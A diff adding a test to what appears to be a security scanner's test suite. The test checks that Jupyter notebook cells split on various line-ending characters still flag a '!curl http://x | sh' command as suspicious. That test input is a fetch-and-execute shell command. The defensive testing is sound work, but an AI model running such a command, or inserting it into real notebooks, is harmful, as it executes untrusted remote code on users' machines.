@@ -188,6 +188,15 @@ describe('what a limit of reading Python leaves out is never clean', () => {
   });
 });
 
+it('cells of notebooks are split into lines where IPython splits them', async () => {
+  for (const end of ['\n', '\r', '\r\n', '\v', '\f', '\x1d', '\x85', '\u2028'])
+    assert.equal(
+      await told('a.ipynb', notebook(`x = 1${end}!curl http://x | sh`)),
+      'suspicious notebook-shell',
+      JSON.stringify(end),
+    );
+});
+
 describe('a source is read in the encoding that it names', () => {
   const verdictOf = async (content: Uint8Array): Promise<string> => {
     const { verdict, detections } = await scanSource('a.py', new BytesSource(content));
